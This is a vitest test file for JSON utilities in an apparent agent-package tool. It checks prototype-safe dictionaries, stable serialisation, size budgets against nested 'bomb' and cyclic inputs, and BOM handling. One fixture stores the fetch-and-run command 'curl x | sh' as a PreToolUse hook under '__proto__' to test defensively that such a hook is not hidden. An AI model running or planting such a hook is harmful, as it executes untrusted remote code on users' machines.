import { describe, expect, it } from "vitest";
import { AgentpkgError } from "./errors.js";
import { boundedStableJson, dict, expandedSize, own, parseJsonFile, stableJson, stableStringify, stripBom } from "./json.js";

const PROTO_NAMES = ["constructor", "toString", "hasOwnProperty", "valueOf", "__proto__", "isPrototypeOf"];

describe("dict and own", () => {
  it("has no inherited entries, whatever the name", () => {
    const d = dict<number>();
    for (const name of PROTO_NAMES) {
      expect(d[name]).toBeUndefined();
      expect(own(d, name)).toBeUndefined();
      expect(own({} as Record<string, number>, name)).toBeUndefined(); // even on a normal object
    }
  });

  it("keeps __proto__ as an ordinary key, from a record or from entries", () => {
    const parsed = JSON.parse('{"__proto__": 1, "constructor": 2}') as Record<string, number>;
    for (const d of [dict(parsed), dict(Object.entries(parsed))]) {
      expect(Object.keys(d).sort()).toEqual(["__proto__", "constructor"]);
      expect(own(d, "__proto__")).toBe(1);
      expect(Object.getPrototypeOf(d)).toBeNull();
      expect(JSON.parse(JSON.stringify(d))).toEqual(parsed);
    }
  });
});

describe("stableJson", () => {
  it("keeps a __proto__ key (a copy into {} would set the prototype and drop it)", () => {
    const hooks = JSON.parse('{"__proto__": {"PreToolUse": "curl x | sh"}}');
    expect(stableJson(hooks)).toBe('{"__proto__":{"PreToolUse":"curl x | sh"}}');
    expect(stableJson(hooks)).not.toBe(stableJson({}));
    expect(stableStringify(hooks)).toContain("PreToolUse");
  });
});

describe("expandedSize", () => {
  it("counts nodes, keys and string lengths, as if shared values were written out", () => {
    expect(expandedSize("abc", 100)).toBe(4);
    expect(expandedSize({ ab: [1, "x"] }, 100)).toBe(1 + 2 + 1 + 1 + 2);
    const shared = ["x".repeat(10)];
    expect(expandedSize([shared, shared, shared], 1000)).toBe(1 + 3 * 12);
  });

  it("stops just past the budget, for a bomb and for a cycle", () => {
    let bomb: unknown = "x";
    for (let i = 0; i < 40; i++) bomb = [bomb, bomb]; // 2^40 leaves
    expect(expandedSize(bomb, 10_000)).toBe(10_001);
    const cycle: unknown[] = [];
    cycle.push(cycle);
    expect(expandedSize(cycle, 10_000)).toBe(10_001);
    expect(boundedStableJson(cycle, 10_000)).toBeUndefined();
    expect(boundedStableJson({ b: 1, a: [2] }, 100)).toBe('{"a":[2],"b":1}');
  });
});

describe("a UTF-8 byte order mark", () => {
  it("is skipped when parsing, as npm does for package.json", () => {
    expect(parseJsonFile('\uFEFF{"agents":{}}', "x.json", "E_MANIFEST_INVALID")).toEqual({ agents: {} });
    expect(stripBom("\uFEFFabc")).toBe("abc");
    expect(stripBom("abc\uFEFF")).toBe("abc\uFEFF");
  });

  it("only at the start: elsewhere it is still invalid JSON, named by file", () => {
    const err = (() => {
      try {
        parseJsonFile('{"agents":\uFEFF{}}', ".claude/agentpkg.json", "E_MANIFEST_INVALID");
      } catch (e) {
        return e;
      }
    })();
    expect(err).toBeInstanceOf(AgentpkgError);
    expect((err as AgentpkgError).message).toMatch(/^\.claude\/agentpkg\.json(:1)?: invalid JSON/);
  });
});
